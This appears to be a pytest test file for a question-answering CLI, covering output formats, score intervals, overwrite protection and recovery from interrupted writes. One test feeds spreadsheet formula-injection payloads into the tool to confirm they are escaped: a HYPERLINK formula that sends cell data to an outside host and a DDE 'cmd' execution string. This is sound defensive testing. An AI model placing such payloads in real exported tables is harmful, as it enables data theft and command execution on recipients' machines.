"""Answering a file of questions: what is said of it, scored and written, with a model that needs no training."""

from __future__ import annotations

import csv
import json
import os
import re
import time

import numpy as np
import pytest

from qa_pipeline.cli.scores import metrics_table
from qa_pipeline.data import load_examples
from qa_pipeline.data.example import fingerprint
from qa_pipeline.errors import ConfigError, DataError, run_script
from qa_pipeline.metrics import resampling_of, score_rows
from qa_pipeline.predictor.files import answer_files
from qa_predict import main
from tests.predictor.fakes import CONTEXT, data_file


def test_a_file_is_answered_scored_and_written(models, tmp_path, capsys):
    target = tmp_path / "out" / "preds.json"
    assert main(["--model", "m", "--data", str(data_file(tmp_path)), "--output", str(target)]) == 0
    printed = capsys.readouterr().out
    assert "exact match     50.00   95% interval" in printed and "4 questions in" in printed
    assert json.loads(target.read_text()) == {"q0": "London", "q1": "engines", "q2": "London", "q3": "engines"}
    nbest = json.loads((tmp_path / "out" / "preds_nbest.json").read_text())
    assert [(span["start"], span["end"]) for span in nbest["q0"]] == [(22, 28), (55, 61), (None, None)]
    assert nbest["q0"][2]["confidence"] == pytest.approx(1 - 0.9 / (1 + len(CONTEXT) / 1000))
    assert json.loads((tmp_path / "out" / "preds_null_odds.json").read_text()).keys() == nbest.keys()


def test_intervals_draw_whole_texts_where_there_are_enough_of_them():
    rows = [
        {"id": f"{text}-{number}", "context": f"The {text} is red.", "question": "What colour?", "answers": answers}
        for text in range(40)
        for number in range(5)
        for answers in [{"text": ["red"], "answer_start": [8 + len(str(text))]}]
    ]
    scores = score_rows({row["id"]: "red" if int(row["id"].split("-")[0]) % 2 else "blue" for row in rows}, rows)
    tables = [
        metrics_table(scores, resampling_of(rows, unit), np.random.default_rng(0), None)
        for unit in ("auto", "question")
    ]
    assert "over contexts" in tables[0] and "over questions" in tables[1]
    widths = [np.ptp([float(v) for v in re.findall(r"interval ([\d.]+) to ([\d.]+)", t)[0]]) for t in tables]
    assert widths[0] > 1.8 * widths[1]  # five questions that go together tell as much as one: sqrt(5) = 2.2


def test_json_lines_hold_each_answer_whole(models, tmp_path):
    target = tmp_path / "preds.jsonl"
    main(["--model", "m", "--data", str(data_file(tmp_path)), "--output", str(target), "--max_eval_samples", "3"])
    rows = [json.loads(line) for line in target.read_text().splitlines()]
    assert [row["id"] for row in rows] == ["q0", "q1", "q2"]
    assert {"question", "text", "start", "end", "confidence", "no_answer_confidence", "nbest"} <= rows[0].keys()


@pytest.mark.parametrize(("ending", "delimiter"), [(".csv", ","), (".TSV", "\t")])
def test_tables_are_tables(models, tmp_path, ending, delimiter):
    target = tmp_path / f"preds{ending}"
    path = data_file(tmp_path, count=2)
    rows = json.loads(path.read_text())
    rows[1]["question"] = 'With a comma, a\ttab and a "quote": what of Zuse?'
    path.write_text(json.dumps(rows))
    main(["--model", "m", "--data", str(path), "--output", str(target)])
    with open(target, newline="") as handle:
        found = list(csv.DictReader(handle, delimiter=delimiter))
    assert list(found[0]) == ["id", "question", "answer", "confidence", "no_answer_confidence", "start", "end"]
    assert [row["question"] for row in found] == [row["question"] for row in rows]
    assert CONTEXT[int(found[0]["start"]) : int(found[0]["end"])] == found[0]["answer"] == "London"
    assert (found[1]["answer"], found[1]["start"], found[1]["end"]) == ("", "", "")
    assert float(found[0]["confidence"]) == pytest.approx(0.9 / (1 + len(CONTEXT) / 1000), abs=1e-6)
    assert sorted(file.name for file in tmp_path.iterdir()) == [target.name, "questions.json"]


def test_files_of_another_run_are_not_overwritten(models, tmp_path, capsys):
    path, target = data_file(tmp_path), tmp_path / "preds.json"
    (tmp_path / "preds_nbest.json").write_text("precious")
    with pytest.raises(ConfigError, match=r"preds_nbest.json would be overwritten, which another run wrote"):
        main(["--model", "m", "--data", str(path), "--output", str(target)])
    assert (tmp_path / "preds_nbest.json").read_text() == "precious" and models["m"].decoded_with == []
    main(["--model", "m", "--data", str(path), "--output", str(tmp_path / "preds.csv")])
    (tmp_path / "preds_nbest.json").unlink()
    for _ in range(2):  # its own files are replaced
        assert main(["--model", "m", "--data", str(path), "--output", str(target)]) == 0


def test_the_fields_that_were_inferred_are_shown(models, tmp_path, capsys):
    path = tmp_path / "own.csv"
    path.write_text("nr,query,passage\n1,Where is London?,The bridge of London is old.\n2,And Paris?,All of Paris.\n")
    main(["--model", "m", "--data", str(path), "--output", str(tmp_path / "preds.csv")])
    printed = capsys.readouterr().err
    assert f"{path}: read as csv, fields: " in printed
    assert '"context": "passage"' in printed and '"question": "query"' in printed


def test_data_without_answers_is_answered_but_not_scored(models, tmp_path, capsys):
    path, target = data_file(tmp_path, answered=False), tmp_path / "preds.json"
    main(["--model", "m", "--data", str(path), "--output", str(target)])
    assert "exact match" not in capsys.readouterr().out and target.exists()
    assert run_script(main, ["--model", "m", "--data", str(path)]) == 2
    assert "--output: is required, since" in capsys.readouterr().err


def test_scores_on_the_data_that_the_model_was_fitted_on_are_said_to_flatter(models, tmp_path, capsys):
    path = data_file(tmp_path)
    main(["--model", "m", "--data", str(path)])
    assert "flatters" not in capsys.readouterr().out
    models["m"].settings.tuned_on = fingerprint(load_examples(path)[0])
    main(["--model", "m", "--data", str(path), "--max_eval_samples", "2"])
    assert (
        "note: the model's temperature and no-answer threshold were fitted on this very data" in capsys.readouterr().out
    )


def test_what_was_dropped_is_said(models, tmp_path, capsys):
    path = data_file(tmp_path, count=8)
    rows = json.loads(path.read_text())
    path.write_text(json.dumps([*rows, {**rows[0], "id": "bad", "context": " "}]))
    main(["--model", "m", "--data", str(path)])
    assert "9 rows read as json, 0 repaired, 1 dropped" in capsys.readouterr().err


def test_an_output_that_cannot_be_written_is_said_before_the_work(models, tmp_path):
    (tmp_path / "file").write_text("x")
    path = data_file(tmp_path)
    with pytest.raises(DataError, match="cannot be written"):
        main(["--model", "m", "--data", str(path), "--output", str(tmp_path / "file" / "preds.json")])
    assert models["m"].decoded_with == []


@pytest.mark.parametrize("ending", [".csv", ".tsv"])
def test_text_in_a_table_is_no_formula(models, tmp_path, ending):
    """A spreadsheet would compute what begins with =, +, - or @, and a document could send the table to somebody."""
    target = tmp_path / f"preds{ending}"
    path = data_file(tmp_path, count=4)
    rows = json.loads(path.read_text())
    attacks = [
        '=HYPERLINK("http://x/"&A1,"London")',
        "+cmd|' /C calc'!A0 of London",
        "-2+3 of London",
        "@SUM(1) London",
    ]
    for row, attack, name in zip(rows, attacks, ("-5", "+1.5%", "@id", "plain"), strict=True):
        row["question"], row["id"] = attack, name
    path.write_text(json.dumps(rows))
    main(["--model", "m", "--data", str(path), "--output", str(target)])
    with open(target, newline="") as handle:
        found = list(csv.DictReader(handle, delimiter="," if ending == ".csv" else "\t"))
    assert [row["question"] for row in found] == [f"'{attack}" for attack in attacks]
    assert [row["id"] for row in found] == ["-5", "+1.5%", "'@id", "plain"]
    assert float(found[0]["confidence"]) > 0


def test_a_document_whose_name_is_a_formula_is_text_too():
    assert answer_files._cell("=1+1.txt") == "'=1+1.txt" and answer_files._cell("\uff1dA1") == "'\uff1dA1"
    assert [answer_files._cell(value) for value in (-1.5, "-1,234.5", "a=b", "")] == [-1.5, "-1,234.5", "a=b", ""]


def test_files_of_one_output_that_a_kill_parted_are_named_and_written_anew(models, tmp_path, monkeypatch):
    path, target = data_file(tmp_path), tmp_path / "preds.json"
    arguments = ["--model", "m", "--data", str(path), "--output", str(target)]
    replace = os.replace

    def killed(source, file):
        if str(file).endswith("_nbest.json"):
            raise KeyboardInterrupt
        return replace(source, file)

    with monkeypatch.context() as patch:
        patch.setattr(os, "replace", killed)
        with pytest.raises(KeyboardInterrupt):
            main(arguments)
    mark = tmp_path / "preds.json.incomplete"
    assert "preds.json, preds_nbest.json, preds_null_odds.json: a run ended while it wrote these" in mark.read_text()
    target.unlink()  # the kill may have come before the first of them
    (tmp_path / "preds_nbest.json").write_text("of the run before")
    assert main(arguments) == 0
    assert not mark.exists() and json.loads((tmp_path / "preds_nbest.json").read_text()).keys() == {
        *json.loads(target.read_text())
    }


def test_temporary_files_of_killed_runs_are_swept_and_those_of_others_stay(models, tmp_path):
    old, young, other = (
        tmp_path / name for name in (".p.csv.0a1b2c3d.tmp", ".p.csv.0a1b2c3e.tmp", ".q.csv.0a1b2c3d.tmp")
    )
    for file in (old, young, other):
        file.write_text("half")
        os.utime(file, (time.time() - 3600 * (file != young),) * 2)
    main(["--model", "m", "--data", str(data_file(tmp_path)), "--output", str(tmp_path / "p.csv")])
    assert not old.exists() and young.exists() and other.exists()


def test_an_empty_context_has_the_empty_answer_under_its_id_and_the_rest_is_answered(models, tmp_path, capsys):
    rows = [{"id": f"q{i}", "question": "Where is London?", "context": CONTEXT} for i in range(8)]
    rows[2]["context"], rows[5]["context"], rows[6]["question"] = "", " \n", ""
    (tmp_path / "rows.json").write_text(json.dumps(rows))
    target = tmp_path / "answers.json"
    assert main(["--model", "m", "--data", str(tmp_path / "rows.json"), "--output", str(target)]) == 0
    answers = json.loads(target.read_text())
    assert {name for name, text in answers.items() if not text} == {"q2", "q5"}
    assert len(answers) == 7
    assert "question without text: q6" in capsys.readouterr().err
    main(["--model", "m", "--data", str(tmp_path / "rows.json"), "--output", str(tmp_path / "answers.jsonl")])
    lines = [json.loads(line) for line in (tmp_path / "answers.jsonl").read_text().splitlines()]
    assert [(line["id"], line["question"]) for line in lines if not line["text"]] == [
        ("q2", "Where is London?"),
        ("q5", "Where is London?"),
    ]


def test_questions_that_require_all_answers_are_scored_as_sets(models, tmp_path, capsys):
    rows = [
        {"id": "1", "context": CONTEXT, "question": "What about London?", "answers": ["London"], "set": True},
        {"id": "2", "context": CONTEXT, "question": "What about engines?", "answers": ["engines"], "set": False},
    ]
    path = tmp_path / "sets.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    mapping = {"context": "context", "question": "question", "answers": "answers", "id": "id", "all_answers": "set"}
    main(["--model", "m", "--data", str(path), "--field_mapping", json.dumps(mapping)])
    assert "all answers of 1 question: exact F1 100.00, partial F1 100.00" in capsys.readouterr().out
    main(["--model", "m", "--data", str(path), "--field_mapping", json.dumps(mapping | {"all_answers": False})])
    assert "all answers" not in capsys.readouterr().out
